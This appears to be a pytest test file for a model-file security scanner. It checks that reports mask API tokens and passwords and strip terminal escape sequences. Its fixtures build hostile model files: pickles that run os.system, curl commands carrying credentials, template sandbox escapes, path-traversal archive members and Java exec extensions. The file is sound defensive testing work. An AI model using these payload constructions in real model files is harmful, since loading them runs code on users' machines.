"""What whoever wrote a model file can make a report quote: no key in it is shown, and nothing in it acts."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.model_files import assemble as a
from tests.model_files.cases import findings
from tests.model_files.hdf5_files import external_link, hdf5
from tests.model_files.pmml_test import pmml
from tests.model_files.rds_test import HEAD, called, promise, strings
from tests.model_files.skops_test import inside, node
from tests.model_files.tflite_test import tflite

FORMATS = ("text", "concise", "json", "jsonl", "sarif", "github", "gitlab", "junit")
TOKEN = ("hf_" + "QwErTyUiOpAs4" * 4)[:37]
PASSWORD = "hunter2-Blue!"
EVIL = a.pickle(a.call(a.global_("os", "system"), a.text("id")))


def keras(layer: object) -> bytes:
    config = {"class_name": "Sequential", "config": {"layers": [layer]}}
    return a.zip_file(a.Member("config.json", json.dumps(config).encode()))


def template(text: str) -> str:
    return f"{{{{ ''.__class__.__mro__[1].__subclasses__()['{text}'] }}}}"


# Files by name: each quotes a text in a finding's message, place, excerpt or advice.
QUOTING: dict[str, Callable[[str], bytes]] = {
    "argument.pkl": lambda text: a.pickle(a.call(a.global_("os", "system"), a.text(f"curl -u me:{text} https://x.eu"))),
    "header.pt": lambda text: a.torch_zip(
        a.pickle(a.call(a.global_("os", "system"), a.text(f"curl -H 'Authorization: Bearer {text}'")), protocol=2)
    ),
    "name.pkl": lambda text: a.pickle(a.call(a.stack_global("os.path", text))),
    "module.pkl": lambda text: a.pickle(a.call(a.stack_global(f"lab.{text}", "Net"))),
    "unknown.pkl": lambda text: a.pickle(a.call(a.stack_global("lab", f"Net_{text}"))),
    "built.pkl": lambda text: a.pickle(a.build(a.call(a.stack_global("lab.x", "Net")), a.text(text))),
    "broken.pkl": lambda text: a.pickle(a.call(a.stack_global("lab", text)))[:-1] + b"\xff",
    "member.zip": lambda text: a.zip_file(a.Member(f"../{text}/x.pkl", EVIL)),
    "local.zip": lambda text: a.zip_file(a.Member("x.pkl", EVIL, local_name=f"y {text}.pkl")),
    "twice.zip": lambda text: a.zip_file(a.Member(f"{text}.pkl", EVIL), a.Member(f"{text}.pkl", EVIL)),
    "locked.zip": lambda text: a.encrypted_zip(f"{text}.pkl", EVIL),
    "member.tar": lambda text: a.tar_file({f"../{text}.pkl": EVIL}, links={"link": f"/{text}"}),
    "location.onnx": lambda text: a.onnx(a.onnx_external(f"../../{text}")),
    "operator.onnx": lambda text: a.onnx(a.onnx_node(f"Op{text}", f"lab.{text}"), opsets=("", f"lab.{text}")),
    "metadata.onnx": lambda text: a.onnx(metadata={"auth_token": text}),
    "template.gguf": lambda text: a.gguf({"tokenizer.chat_template": template(text)}),
    "metadata.gguf": lambda text: a.gguf({"general.auth_token": text}),
    "key.gguf": lambda text: a.gguf({f"tokenizer.chat_template.{text}": template("x")}),
    "tensor.safetensors": lambda text: a.safetensors(
        {text: {"dtype": "F32", "shape": [4], "data_offsets": [0, 99]}}, bytes(16)
    ),
    "link.h5": lambda text: hdf5(external_link("x", f"/{text}.h5", text)),
    "lambda.keras": lambda text: keras(
        {"class_name": "Lambda", "config": {"name": text, "function": ["4wEA" + text, None, None]}}
    ),
    "module.keras": lambda text: keras({"class_name": text, "module": f"lab.{text}", "config": {}}),
    "vocabulary.keras": lambda text: keras({"class_name": "StringLookup", "config": {"vocabulary": f"/{text}"}}),
    "promise.rds": lambda text: HEAD + promise(called("system", strings(text))),
    "extension.pmml": lambda text: pmml(
        f"<Extension value='java.lang.Runtime.getRuntime().exec(\"{text}\")'/>" if text.isprintable() else "<script/>"
    ),
    "schema.skops": lambda text: inside(node("FunctionNode", "os", text)),
    "operator.tflite": lambda text: tflite(f"FlexWriteFile{text}", "FlexPyFunc"),
    "tokenizer.zip": lambda text: a.zip_file(
        a.Member("tokenizer_config.json", json.dumps({"chat_template": template(text)}).encode()),
        a.Member("config.json", json.dumps({"auto_map": {text: f"m.{text}"}}).encode()),
        a.Member("x.index.json", json.dumps({"weight_map": {"a": f"../../{text}"}}).encode()),
        a.Member("MLmodel", f'loader_module: "lab {json.dumps(text)[1:-1]}"\n'.encode()),
        a.Member("model.yaml", f"_target_: {json.dumps('os.system ' + text)}\n".encode()),
    ),
}


@pytest.fixture(params=FORMATS)
def report(request: pytest.FixtureRequest, tmp_path: Path) -> Callable[[str], str]:
    """The report of one format on all the files with a text in them."""

    def made(text: str) -> str:
        for name, build in QUOTING.items():
            (tmp_path / name).write_bytes(build(text))
        command = [sys.executable, "-m", "labcoat", "check", ".", "--format", request.param, "--select", "model-files"]
        done = subprocess.run(command, cwd=tmp_path, capture_output=True, check=False)
        shown = done.stdout.decode()
        assert (done.returncode, done.stderr) == (1, b"")
        assert [name for name in QUOTING if name not in shown and not name.startswith("metadata")] == []
        assert ("metadata.gguf" in shown) == ("metadata.onnx" in shown) == (text == TOKEN)
        return shown

    return made


def test_no_report_shows_a_key(report: Callable[[str], str]) -> None:
    assert TOKEN not in report(TOKEN)


@pytest.mark.parametrize("name", ["argument.pkl", "name.pkl"])
def test_a_password_that_its_name_tells_is_masked_wherever_the_file_has_it(name: str) -> None:
    named = a.zip_file(
        a.Member("args.pkl", a.pickle(a.dict_((a.text("db_password"), a.text(PASSWORD))))),
        a.Member("x.pkl", QUOTING[name](PASSWORD)),
    )
    found = findings(named, "model.zip")
    assert {"secret-in-model", "dangerous-pickle-import"} <= {finding.rule for finding in found}
    assert PASSWORD not in str(found)


def test_nothing_in_a_report_acts_or_hides(report: Callable[[str], str]) -> None:
    shown = report("a\x1b[2J\r\n::error::b\u202ec\u200bd\x07")
    assert [text for text in ("\x1b", "\r", "\n::error::b", "\u202e", "\u200b", "\x07") if text in shown] == []


def test_two_things_in_one_place_are_two_findings() -> None:
    layers = [{"class_name": "function", "module": "os", "config": name} for name in ("system", "popen", "system")]
    found = findings(keras({"class_name": "Layers", "config": layers}), "model.keras")
    assert [finding.excerpt for finding in found] == ["os.popen", "os.system"]
    assert len({finding.fingerprint for finding in found}) == 2


def test_two_keys_of_one_pickle_are_two_findings() -> None:
    keys = [a.text(TOKEN), a.text(TOKEN[::-1][:34].join(["hf_", ""]))]
    found = findings(a.pickle(a.dict_(*[(a.text("token"), key) for key in keys])))
    assert [finding.rule for finding in found] == ["secret-in-model"] * 2
    assert len({finding.place for finding in found}) == 2


def test_a_further_call_of_a_name_is_told_and_no_baseline_covers_it() -> None:
    calls = [a.call(a.global_("os", "system"), a.text(argument)) for argument in ("id", "rm")]
    [first] = findings(a.pickle(calls[0]))
    [both] = findings(a.pickle(a.tuple_(*calls)))
    assert "calls `os.system('id')`, and with 'rm' when it is loaded" in both.message
    assert first.fingerprint != both.fingerprint


@pytest.mark.parametrize("before", range(60, 130, 6))
def test_a_key_that_is_cut_is_not_shown(before: int) -> None:
    [cut, *_] = findings(a.pickle(a.call(a.global_("os", "system"), a.text("x " * (before // 2) + TOKEN))))
    assert TOKEN[:12] not in cut.message + cut.excerpt


def test_calls_that_end_otherwise_are_not_the_same_finding() -> None:
    long = [
        a.pickle(a.call(a.global_("os", "system"), a.text("echo " * 20), a.text("x" * 90), a.text(end)))
        for end in ("a", "b")
    ]
    assert len({finding.fingerprint for data in long for finding in findings(data)}) == 2


def test_a_name_that_is_not_known_is_the_same_finding_after_the_next_training() -> None:
    runs = [a.pickle(a.call(a.global_("lab", "Net"), a.int_(epoch))) for epoch in (1, 2)]
    assert len({finding.fingerprint for run in runs for finding in findings(run)}) == 1


def test_what_comes_in_by_standard_input_has_no_limit_either(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[tool.labcoat]\nmax-bytes = 10\n")
    command = [sys.executable, "-m", "labcoat", "check", "--format", "concise", "--stdin-filename", "model.pkl", "-"]
    done = subprocess.run(command, cwd=tmp_path, input=EVIL, capture_output=True, check=False)
    assert [line.split()[:3] for line in done.stdout.decode().splitlines()] == [["model.pkl", "@", "2:"]]


def test_a_long_name_is_cut() -> None:
    long = "x" * 3_000_000
    for name in ("member.tar", "location.onnx", "template.gguf", "unknown.pkl", "vocabulary.keras", "promise.rds"):
        found = findings(QUOTING[name](long), name)
        assert found
        assert [len(str(finding)) for finding in found if len(str(finding)) > 10_000] == []


def test_a_key_far_into_a_text_is_shown_with_what_is_beside_it() -> None:
    text = "word " * 200_000 + f"HF_TOKEN={TOKEN} and more"
    [found] = findings(a.tar_file({"code/.env": text.encode()}), "model.tar")
    assert TOKEN not in str(found)
    assert "HF_TOKEN=hf_***" in found.excerpt
